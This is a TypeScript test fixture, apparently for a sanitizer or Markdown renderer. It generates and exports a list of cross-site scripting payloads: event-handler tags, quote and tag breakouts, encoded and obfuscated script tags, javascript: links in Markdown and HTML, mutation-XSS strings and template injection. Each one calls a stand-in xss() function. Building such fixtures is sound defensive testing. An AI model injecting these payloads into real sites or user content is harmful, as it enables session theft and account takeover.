/** Each calls `xss()` when it runs. By how they try to leave the text they stand in. */
const CALL = 'xss()'

const HANDLERS = [
  ...[
    'img src=x onerror',
    'svg onload',
    'body onload',
    'input autofocus onfocus',
    'video src=x onerror',
    'audio src=x onerror',
  ],
  ...['details open ontoggle', 'marquee onstart', 'iframe onload', 'object data=x onerror', 'select autofocus onfocus'],
  ...['textarea autofocus onfocus', 'keygen autofocus onfocus', 'style onload', 'link rel=stylesheet href=x onerror'],
  ...['script src=x onerror', 'svg><animate onbegin', 'svg><set onbegin', 'video><source onerror', 'math><mi onclick'],
]

const elements = HANDLERS.map((start) => `<${start}=${CALL}>`)
const quoted = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
].map((end) => `${end}<img src=x onerror=${CALL}>`)
const scripts = [
  `<script>${CALL}</script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<script type="module">${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `"};${CALL};//`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `<script>${CALL}//`,
  `<!--<script>${CALL}--></script>`,
  `<svg><script>${CALL}</script></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
]
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'data:text/html,<script>',
  'vbscript:',
  'javascript&colon;',
  'javascript%3A',
].map((scheme) => `${scheme}${CALL}`)
const links = schemes.flatMap((address) => [
  `[odkaz](${address})`,
  `![obrázek](${address})`,
  `<a href="${address}">odkaz</a>`,
])
const markdown = [
  `[odkaz](/x "onmouseover=${CALL}")`,
  `[a](javascript:${CALL} "b")`,
  `[a]: javascript:${CALL}`,
  `<javascript:${CALL}>`,
  `![x](x"onerror="${CALL})`,
  `![x](x' onerror='${CALL})`,
  `**<img src=x onerror=${CALL}>**`,
  `\`<img src=x onerror=${CALL}>\``,
  `| a | <img src=x onerror=${CALL}> |\n|---|---|\n| b | <svg onload=${CALL}> |`,
  `> <iframe srcdoc="<script>parent.${CALL}</script>">`,
  `{{company.name}}<img src=x onerror=${CALL}>`,
  `## <svg onload=${CALL}>`,
  `- <img src=x onerror=${CALL}>`,
]
const attributes = [
  `" onmouseover="${CALL}" x="`,
  `" autofocus onfocus="${CALL}" x="`,
  `' onfocus='${CALL}' autofocus x='`,
  `" style="animation-name:x" onanimationstart="${CALL}`,
  `x" onerror="${CALL}`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<base href="javascript:${CALL}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<embed src="javascript:${CALL}">`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
]

export const PAYLOADS: readonly string[] = [
  ...elements,
  ...quoted,
  ...scripts,
  ...links,
  ...markdown,
  ...attributes,
  ...schemes,
]
